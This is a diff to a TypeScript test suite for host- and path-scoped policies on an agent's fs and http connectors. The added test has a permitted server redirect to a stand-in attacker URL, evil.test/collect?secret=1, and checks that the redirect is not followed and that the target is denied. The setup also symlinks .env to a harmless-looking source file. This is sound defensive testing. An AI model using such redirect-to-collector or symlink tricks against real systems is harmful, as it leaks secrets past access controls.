@@ -61,6 +61,11 @@ describe('path- and host-scoped policies on the fs and http connectors', () => {
     symlinkSync(join(project, '.env'), join(project, 'src', 'innocent.ts'));
 
     web = createServer((req, res) => {
+      if (req.url === '/go') {
+        res.writeHead(302, { location: `http://evil.test:${port}/collect?secret=1` });
+        res.end();
+        return;
+      }
       res.writeHead(200, { 'content-type': 'text/plain' });
       res.end(`hello from ${req.headers.host}`);
     });
@@ -88,7 +93,9 @@ describe('path- and host-scoped policies on the fs and http connectors', () => {
         transport: 'in-memory',
         connect: async () => {
           const [client, server] = InMemoryTransport.createLinkedPair();
+          // as agentd sets it up under a policy set: redirects come back, not followed
           await createHttpServer({
+            followRedirects: false,
             allowPrivate: true,
             lookup: async (host) => [{ address: names[host] ?? '192.0.2.1', family: 4 }],
           }).connect(server);
@@ -189,5 +196,14 @@ describe('path- and host-scoped policies on the fs and http connectors', () => {
       );
     }
     expect(await call('http__fetch', { url: 'not a url' })).toMatchObject({ errorKind: 'denied' });
+  });
+
+  it('a permitted host cannot redirect past the policies: the redirect comes back, its target is a new call', async () => {
+    const hop = await call('http__fetch', { url: `http://api.example.com:${port}/go` });
+    expect(hop).toMatchObject({ isError: false });
+    expect(hop.output).toMatch(/^HTTP 302 Found/);
+    expect(hop.output).toContain(`location: http://evil.test:${port}/collect?secret=1`);
+    const next = await call('http__fetch', { url: `http://evil.test:${port}/collect?secret=1` });
+    expect(next).toMatchObject({ errorKind: 'denied' });
   });
 });
